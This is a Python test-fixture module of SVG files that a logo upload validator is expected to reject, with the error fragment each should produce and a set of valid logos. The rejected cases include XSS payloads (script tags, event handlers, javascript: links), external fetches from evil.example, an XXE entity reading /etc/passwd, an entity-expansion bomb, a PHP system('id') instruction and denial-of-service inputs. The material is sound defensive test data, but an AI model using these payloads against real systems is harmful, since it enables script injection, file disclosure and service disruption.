"""SVG files that must be refused: attacks, broken files, and files of more than a logo needs.

`CASES` maps a name to the bytes and a part of the message.
"""

from __future__ import annotations

import gzip

HEAD = '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 8 8"'
PATH = '<path d="M0 0h8v8z"/>'


def svg(inside: str = PATH, *, before: str = "", attributes: str = "") -> bytes:
    """An SVG with this text inside, before it, and in its first element."""
    return f"{before}{HEAD}{attributes}>{inside}</svg>\n".encode()


def shape(attributes: str) -> bytes:
    """An SVG with a path that has these attributes."""
    return svg(f'<path d="M0 0h8v8z" {attributes}/>')


_ENTITIES = '<!DOCTYPE svg [<!ENTITY a "ha">' + "".join(
    f'<!ENTITY {chr(98 + i)} "{f"&{chr(97 + i)};" * 10}">' for i in range(9)
)
_XLINK = ' xmlns:xlink="http://www.w3.org/1999/xlink"'
_HTML = ' xmlns:h="http://www.w3.org/1999/xhtml"'
_TEXT = "data:image/svg+xml;base64,PHN2Zz48L3N2Zz4="

_DASHED = '<line x2="8" stroke="red" stroke-dasharray'
_CANNOT_SEE = "which nobody can see"

CASES: dict[str, tuple[bytes, str]] = {
    # dashes that take a browser long to draw: the view box is 8 wide, so none is below 0.016
    "dashes that are too short": (svg(f'{_DASHED}=".003"/>' * 500), "dashes of 0.003, which"),
    "one dash that is too short": (svg(f'{_DASHED}="1 .015"/>'), _CANNOT_SEE),
    "short dashes in percent": (svg(f'{_DASHED}="0.1%"/>'), _CANNOT_SEE),
    "short dashes of a group": (
        svg('<g stroke-dasharray=".01"><path d="M0 0h8"/></g>'),
        _CANNOT_SEE,
    ),
    "short dashes of the root": (svg(attributes=' stroke-dasharray="1e-3"'), _CANNOT_SEE),
    "dashes made short": (svg(f'<g transform="scale(.01)">{_DASHED}="1"/></g>'), _CANNOT_SEE),
    "dashes made short by a matrix": (
        svg(f'<g transform="matrix(.01 0 0 .01 0 0)">{_DASHED}="1"/></g>'),
        _CANNOT_SEE,
    ),
    "dashes of lines far outside": (
        svg('<path stroke-dasharray="1" d="M-9e5 0Q0 8 9e5 0"/>' * 9),
        "at most about 1,000,000",
    ),
    "dashes of many circles": (
        svg('<circle r="800%" stroke-dasharray=".02 0"/>' * 1000),
        "at most about 1,000,000",
    ),
    "dashes that do not scale": (
        shape('stroke-dasharray="1" vector-effect="non-scaling-stroke"'),
        "does not scale",
    ),
    # scripts
    "script": (svg("<script>alert(1)</script>"), "the element <script>"),
    "script in capitals": (svg("<SCRIPT>alert(1)</SCRIPT>"), "the element <SCRIPT>"),
    "script by address": (svg('<script href="https://evil.example/x.js"/>'), "<script>"),
    "script with a prefix": (
        svg("<s:script>alert(1)</s:script>", attributes=' xmlns:s="http://www.w3.org/2000/svg"'),
        "the attribute xmlns:s",
    ),
    "script in a group": (svg("<g><g><script/></g></g>"), "<script>"),
    "script in a title": (svg("<title><script/></title>"), "<script>"),
    "handler": (shape('onclick="alert(1)"'), "the attribute onclick"),
    "handler of the root": (svg(attributes=' onload="alert(1)"'), "the attribute onload"),
    "handler in capitals": (shape('ONLOAD="alert(1)"'), "the attribute ONLOAD"),
    "handler in mixed letters": (shape('oNfOcUsIn="alert(1)"'), "the attribute oNfOcUsIn"),
    "handler of an animation": (shape('onbegin="alert(1)"'), "the attribute onbegin"),
    "handler with a character reference": (
        shape('onmouseover="&#97;lert(1)"'),
        "the attribute onmouseover",
    ),
    "handler with a prefix": (shape('x:onclick="alert(1)"'), "the attribute x:onclick"),
    "handler declared by name": (svg("<handler>alert(1)</handler>"), "<handler>"),
    "listener": (svg('<listener event="click"/>'), "<listener>"),
    # documents inside the document
    "web page": (svg("<foreignObject><p>Hello</p></foreignObject>"), "<foreignObject>"),
    "web page in lower case": (svg("<foreignobject/>"), "<foreignobject>"),
    "frame of another namespace": (svg('<h:iframe src="//x"/>', attributes=_HTML), "xmlns:h"),
    "namespace changed inside": (
        svg('<g xmlns="http://www.w3.org/1999/xhtml"/>'),
        "the attribute xmlns",
    ),
    "picture": (svg(f'<image href="{_TEXT}"/>'), "<image>"),
    "picture with xlink": (svg('<image xlink:href="//x/y.png"/>', attributes=_XLINK), "<image>"),
    "img of HTML": (svg('<img src="x" onerror="alert(1)"/>'), "<img>"),
    "copy of a data address": (svg(f'<use href="{_TEXT}#x"/>'), "<use>"),
    "copies of copies": (
        svg(
            '<g id="a"><path d="M0 0"/></g>'
            + "".join(
                f'<g id="b{i}"><use href="#b{i - 1}"/><use href="#b{i - 1}"/></g>'
                for i in range(1, 30)
            )
        ),
        "<use>",
    ),
    "link": (svg('<a href="javascript:alert(1)"><path d="M0 0"/></a>'), "<a>"),
    "nested document": (svg(svg().decode()), "<svg> is not allowed inside <svg>"),
    "video": (svg('<video src="x"/>'), "<video>"),
    "cursor": (svg('<cursor href="//x"/>'), "<cursor>"),
    "symbol": (svg("<symbol/>"), "<symbol>"),
    "switch": (svg("<switch/>"), "<switch>"),
    "metadata": (svg("<metadata><x/></metadata>"), "<metadata>"),
    "text": (svg("<text>Acme</text>"), "<text>"),
    # animation
    "set": (svg('<set attributeName="href" to="javascript:alert(1)"/>'), "an animation"),
    "animate": (svg('<animate attributeName="href" values="x"/>'), "an animation"),
    "animate a motion": (svg("<animateMotion/>"), "an animation"),
    "animate a transform": (svg("<animateTransform/>"), "an animation"),
    # styles
    "style": (svg("<style>*{fill:red}</style>"), "<style>"),
    "style that imports": (svg('<style>@import "//evil.example";</style>'), "<style>"),
    "style attribute": (shape('style="fill:url(//evil.example)"'), "the attribute style"),
    "class": (shape('class="a"'), "the attribute class"),
    "style sheet": (
        svg(before='<?xml-stylesheet href="//evil.example/x.css"?>'),
        'the instruction "<?xml-stylesheet"',
    ),
    "filter": (svg('<filter id="a"><feImage href="//x"/></filter>'), "<filter>"),
    "filter attribute": (shape('filter="url(#a)"'), "the attribute filter"),
    "mask": (shape('mask="url(//evil.example#a)"'), "the attribute mask"),
    "pattern": (svg('<pattern id="a"/>'), "<pattern>"),
    "marker": (shape('marker-end="url(#a)"'), "the attribute marker-end"),
    # values
    "paint from elsewhere": (shape('fill="url(https://evil.example/#a)"'), "a value of fill"),
    "paint from data": (shape(f'fill="url({_TEXT})"'), "a value of fill"),
    "paint without scheme": (shape('fill="url(//evil.example)"'), "a value of fill"),
    "paint in quotes": (shape("fill=\"url('#a')\""), "a value of fill"),
    "paint in capitals": (shape('fill="URL(//evil.example)"'), "a value of fill"),
    "paint with an escape": (shape(r'fill="\75rl(//evil.example)"'), "a value of fill"),
    "paint with a comment": (shape('fill="u/**/rl(//evil.example)"'), "a value of fill"),
    "paint with a character reference": (shape('fill="url&#40;//x)"'), "a value of fill"),
    "paint and more": (shape('fill="red;background:url(//x)"'), "a value of fill"),
    "paint by a script": (shape('fill="javascript:alert(1)"'), "a value of fill"),
    "expression": (shape('fill="expression(alert(1))"'), "a value of fill"),
    "variable": (shape('fill="var(--x)"'), "a value of fill"),
    "clip path from elsewhere": (shape('clip-path="url(//x#a)"'), "a value of clip-path"),
    "clip path of a gradient": (
        svg('<linearGradient id="a"/><path d="M0 0" clip-path="url(#a)"/>'),
        "refers to no clip path",
    ),
    "clip path in a clip path": (
        svg('<clipPath id="a"><path d="M0 0" clip-path="url(#a)"/></clipPath>'),
        "inside <clipPath>",
    ),
    "group in a clip path": (svg('<clipPath id="a"><g/></clipPath>'), "<g> is not allowed inside"),
    "reference to nothing": (shape('fill="url(#gone)"'), "refers to no gradient"),
    "reference to a shape": (
        svg('<path id="a" d="M0 0" fill="url(#a)"/>'),
        "refers to no gradient",
    ),
    "gradient of another file": (svg('<linearGradient href="//x#a"/>'), "the attribute href"),
    "gradient with xlink": (
        svg('<linearGradient xlink:href="#a"/>', attributes=_XLINK),
        "the attribute xlink:href",
    ),
    "same id twice": (svg('<path id="a" d="M0 0"/><path id="a" d="M0 0"/>'), "used twice"),
    "id with a space": (shape('id="a b"'), "a value of id"),
    "address of the base": (svg(attributes=' xml:base="//evil.example"'), "xml:base"),
    "not a number": (shape('stroke-width="NaN"'), "a value of stroke-width"),
    "infinite": (shape('stroke-width="Infinity"'), "a value of stroke-width"),
    "huge number": (shape('stroke-width="1e9"'), "a value of stroke-width"),
    "huge exponent": (shape('stroke-width="1e999999999"'), "a value of stroke-width"),
    "huge number in a path": (svg('<path d="M0 0h1e99"/>'), "a value of d"),
    "many digits": (svg(f'<path d="M0 0h{"9" * 50_000}"/>'), "a value of d"),
    "digits that could be split": (
        svg(f'<polygon points="{"1" * 50_000}x"/>'),
        "a value of points",
    ),
    "transform that could be split": (
        shape(f'transform="{"scale(1) " * 3000}x"'),
        "a value of transform",
    ),
    "letters in a path": (svg('<path d="M0 0 javascript"/>'), "a value of d"),
    "digits of another script": (shape('stroke-width="\u0663"'), "a value of stroke-width"),
    "function in a number": (shape('stroke-width="calc(1px)"'), "a value of stroke-width"),
    "size that is huge": (
        HEAD.replace("0 0 8 8", "0 0 1e5 1e5").encode() + b"/>",
        "at most 2,048 are allowed",
    ),
    "width that is huge": (svg(attributes=' width="4000" height="4"'), "at most 2,048"),
    "size that is negative": (HEAD.replace("0 0 8 8", "0 0 -8 8").encode() + b"/>", "nothing"),
    "size of three numbers": (HEAD.replace("0 0 8 8", "0 0 8").encode() + b"/>", "viewBox"),
    # XML
    "entities": (svg("&j;", before=f"{_ENTITIES}]>"), "a DOCTYPE"),
    "entity of a file": (
        svg("&x;", before='<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>'),
        "a DOCTYPE",
    ),
    "entity of a parameter": (
        svg(before='<!DOCTYPE svg [<!ENTITY % x SYSTEM "http://evil.example/x.dtd">%x;]>'),
        "a DOCTYPE",
    ),
    "document type": (
        svg(before='<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/x.dtd">'),
        "a DOCTYPE",
    ),
    "unknown entity": (svg("<title>&nbsp;</title>"), "not valid SVG"),
    "section of characters": (svg("<title><![CDATA[<script>]]></title>"), "CDATA"),
    "section of characters in the root": (svg("<![CDATA[x]]>"), "CDATA"),
    "instruction": (svg("<?php system('id') ?>"), 'the instruction "<?php"'),
    "text in a group": (svg("<g>javascript:alert(1)</g>"), "<g> may not have text"),
    "XML 1.1": (svg(before='<?xml version="1.1"?>'), "XML 1.0"),
    "another encoding": (svg(before='<?xml version="1.0" encoding="UTF-7"?>'), "in UTF-8"),
    "Latin-1": (
        svg("<title>\u00e9</title>", before='<?xml version="1.0" encoding="ISO-8859-1"?>'),
        "in UTF-8",
    ),
    "bytes of Latin-1": (svg("<title>\u00e9</title>").decode().encode("latin-1"), "not UTF-8"),
    "UTF-16": (svg().decode().encode("utf-16"), "byte order mark"),
    "UTF-16 without mark": (svg().decode().encode("utf-16-le"), "a byte that is zero"),
    "UTF-32": (svg().decode().encode("utf-32"), "byte order mark"),
    "UTF-7": (svg().decode().replace("<", "+ADw-").encode(), "neither SVG nor PNG"),
    "byte order mark": (b"\xef\xbb\xbf" + svg(), "byte order mark"),
    "zero byte": (svg("<title>a\0b</title>"), "a byte that is zero"),
    "control character": (svg("<title>a\x08b</title>"), "not valid SVG"),
    "overlong letters": (svg().replace(b"<path", b"\xc0\xbcpath"), "not UTF-8"),
    "cut off": (svg()[:-8], "not valid SVG"),
    "two roots": (svg() + svg(), "not valid SVG"),
    "text after the root": (svg() + b"<script>alert(1)</script>", "not valid SVG"),
    "same attribute twice": (shape('fill="red" fill="url(//x)"'), "not valid SVG"),
    "attribute without quotes": (shape("fill=red"), "not valid SVG"),
    "without namespace": (b'<svg viewBox="0 0 8 8"/>', "<svg> has no xmlns"),
    "another namespace": (
        b'<svg xmlns="http://www.w3.org/1999/xhtml" viewBox="0 0 8 8"/>',
        "a value of xmlns",
    ),
    "namespace by a prefix": (
        b'<s:svg xmlns:s="http://www.w3.org/2000/svg" viewBox="0 0 8 8"/>',
        "the element <s:svg>",
    ),
    "web page as root": (b"<html><body onload='alert(1)'/></html>", "the element <html>"),
    "shape as root": (b'<path d="M0 0"/>', "this is <path> and not SVG"),
    "web page by name": (b"<!DOCTYPE html><html></html>", "a DOCTYPE"),
    "deep": (svg("<g>" * 40 + "</g>" * 40), "groups inside each other"),
    "very deep": (svg("<g>" * 9000 + "</g>" * 9000), "groups inside each other"),
    "many elements": (svg("<g/>" * 10_000), "elements"),
    "a hundred thousand elements": (svg("<g/>" * 100_000), "larger than 64 KiB"),
    "long title": (svg(f"<title>{'a' * 2000}</title>"), "more than 1,000 characters"),
    # other files
    "compressed": (gzip.compress(svg(), mtime=0), "a compressed SVG"),
    "empty": (b"", "this file is empty"),
    "words": (b"Acme Inc.", "neither SVG nor PNG"),
    "JPEG": (b"\xff\xd8\xff\xe0" + svg(), "a JPEG"),
    "GIF that is also a script": (b"GIF89a/*" + svg() + b"*/=alert(1)", "a GIF"),
    "PDF": (b"%PDF-1.7\n" + svg(), "a PDF"),
    "archive": (b"PK\x03\x04" + svg(), "a zip archive"),
    "PNG by name SVG": (b"\x89PNG\r\n\x1a\n" + svg(), "is PNG"),
}

#: Files that are logos, as editors and icon sets write them.
GOOD: dict[str, bytes] = {
    "smallest": svg(""),
    "declaration and comments": svg(
        f"<!-- inside -->{PATH}",
        before='<?xml version="1.0" encoding="utf-8" standalone="no"?>\n<!-- Made by hand -->\n',
    ),
    "icon": svg(f"<title>Acme &amp; Söhne &#x3c;3</title>{PATH}", attributes=' role="img"'),
    "size in pixels": svg(attributes=' width="64px" height="48" version="1.1"'),
    "large box in a small size": (
        HEAD.replace("0 0 8 8", "0,0 5000 5000").encode() + b' width="32" height="32"/>'
    ),
    "unused xlink": svg(attributes=_XLINK),
    "dashes and dots": svg(
        f'{_DASHED}="2,1"/>{_DASHED}="0 .5" stroke-linecap="round"/>{_DASHED}="0 0"/>'
        f'{_DASHED}="none"/><g transform="scale(100)">{_DASHED}=".01"/></g>'
        '<g stroke-dasharray=".001"><path stroke-dasharray="1%" d="M0 0h8"/></g>'
    ),
    "gradients": svg(
        '<defs><linearGradient id="a" x1="0" x2="100%" gradientTransform="rotate(45)">'
        '<stop offset="0" stop-color="#0B6E4F"/>'
        '<stop offset="100%" stop-color="rgb(1, 2,3)" stop-opacity=".5"/></linearGradient>'
        '<radialGradient id="b-1" cx="4" cy="4" r="4" gradientUnits="userSpaceOnUse"/></defs>'
        '<g fill="url(#a)" stroke="url(#b-1)"><circle cx="4" cy="4" r="3.5"/></g>'
    ),
    "clip path before its definition": svg(
        '<g clip-path="url(#c)"><rect width="8" height="8" rx="1"/></g>'
        '<clipPath id="c"><circle r="3"/></clipPath>'
    ),
    "every shape": svg(
        '<line x1="0" y1="0" x2="8" y2="8" stroke="currentColor" stroke-dasharray="1 2,3"/>'
        '<polyline points="0,0 8,8 0 8"/><polygon points="0 0-8.5.5 1e-3,4"/>'
        '<ellipse cx="4" cy="4" rx="3" ry="2" fill="none" stroke="hsl(120, 50%, 50%)"/>'
        '<path fill-rule="evenodd" d="M1.5.5-3,4a1 1 0 01.5.5\n\tz"'
        ' transform="translate(1,2) scale(2)\n matrix(1 0 0 1 0 0)"/>'
    ),
}
